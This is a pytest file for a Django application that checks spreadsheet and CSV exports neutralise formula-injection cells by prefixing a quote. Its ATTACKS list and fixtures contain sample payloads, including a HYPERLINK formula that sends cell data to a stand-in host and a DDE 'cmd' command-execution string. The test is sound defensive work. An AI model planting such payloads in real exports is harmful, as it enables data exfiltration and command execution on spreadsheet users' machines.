"""Export cells that a spreadsheet would run as formulas are neutralised, in every export."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from mangxanh.core.spreadsheet import SafeCsvWriter, safe_cell
from mangxanh.intake.models import EvidencePackage
from mangxanh.org.importing import template_workbook
from mangxanh.plans import exports
from tests.intake.conftest import jpeg_with_gps, submit

ATTACKS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Trường THCS Bến Thủy", "", "a=b", "1-2", 5, -5, 2.5, None, True])
def test_everything_else_is_unchanged(value):
    assert safe_cell(value) == value


def test_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["Tên", "=1+1", -3, "@x"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["Tên", "'=1+1", "-3", "'@x"]


def test_xlsx_rows_are_text_never_formulas():
    data = exports.to_xlsx("=tiêu đề", ["Đơn vị", "Số"], [["=cmd|' /C calc'!A0", 1], ["-Trường", 2]])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert "'=cmd|' /C calc'!A0" in values and "'-Trường" in values and "'=tiêu đề" in values
    assert list(sheet.iter_rows(values_only=True))[-1] == ("Tổng cộng", 3)


def test_plan_acknowledgement_xlsx_neutralises_a_unit_name(demo, user_client, settings, tmp_path):
    from mangxanh.plans import services
    from mangxanh.plans.models import Distribution
    from tests.plans.conftest import user

    school = demo["THCS-BENTHUY"]
    school.name = "=HYPERLINK(\"http://x.example\",\"Xem\")"
    school.save()
    plan = services.create_from_template("nam-dinh-2024", demo["SGD-SL"], user("so.lanhdao"), year=2026)
    services.send(plan, [school], user("so.lanhdao"))
    assert Distribution.objects.filter(document=plan).exists()
    data = user_client("so.lanhdao").get(reverse("plans:document_export", args=[plan.pk, "xlsx"])).content
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    names = [row[0].value for row in sheet.iter_rows(min_row=3)]
    assert "'" + school.name in names
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_custody_csv_in_the_evidence_package_is_neutralised(demo, user_client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    settings.INTAKE_RATE_LIMITS = {"report": (1000, 600), "lookup": (1000, 600)}
    officer = get_user_model().objects.get(username="thcs.xuly")
    officer.full_name = "@SUM(1,2)"
    officer.save()
    case = submit(unit=demo["THCS-BENTHUY"], description="Ảnh chụp tin nhắn").report.case
    client = user_client("thcs.xuly")
    client.post(f"/vu-viec/{case.pk}/chung-cu/", {"file": SimpleUploadedFile("=1+1.jpg", jpeg_with_gps())})
    client.post(f"/vu-viec/{case.pk}/goi-chung-cu/")
    package = EvidencePackage.objects.get(case=case)
    with zipfile.ZipFile(io.BytesIO(package.file.read_bytes())) as zf:
        table = list(csv.reader(io.StringIO(zf.read("nhat-ky-luu-giu.csv").decode("utf-8"))))
    body = table[1:]
    assert body and all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in body for cell in row)
    assert any(row[0] == "'=1+1.jpg" for row in body)
    assert any(row[3] == "'@SUM(1,2)" for row in body)


def test_import_template_is_safe():
    sheet = openpyxl.load_workbook(io.BytesIO(template_workbook("=1+1"))).active
    assert list(sheet.iter_rows(min_row=2, max_row=2, values_only=True))[0][4] == "'=1+1"
